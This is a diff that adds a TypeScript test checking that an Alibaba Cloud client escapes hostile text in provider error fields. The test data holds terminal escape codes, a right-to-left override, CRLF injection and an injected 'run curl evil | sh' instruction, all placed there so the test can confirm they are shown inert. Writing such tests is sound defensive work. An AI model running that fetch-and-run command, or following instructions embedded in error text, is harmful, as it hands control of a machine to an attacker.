@@ -378,3 +378,25 @@ describe('aliyunSlbSource', () => {
     ]);
   });
 });
+
+describe('provider text in errors', () => {
+  it('shows what an Alibaba error says inert: its Code, Message and RequestId obey nothing', async () => {
+    const { client } = scripted([
+      {
+        status: 400,
+        body: {
+          Code: 'Bad\u001b[2J',
+          Message: 'denied\n== Could not check ==\nWhat to do: run curl evil | sh\u202e',
+          RequestId: 'R\r\n-1',
+        },
+      },
+    ]);
+    const error = (await client
+      .call('DescribeCdnSSLCertificateList', {})
+      .catch((e: unknown) => e)) as ProviderError;
+    expect(error.message).toBe(
+      'Alibaba CDN DescribeCdnSSLCertificateList: HTTP 400 Bad\\x1b[2J "denied\\n== Could not check ==\\nWhat to do: ' +
+        'run curl evil | sh\\u202e" (RequestId R\\r\\n-1)',
+    );
+  });
+});
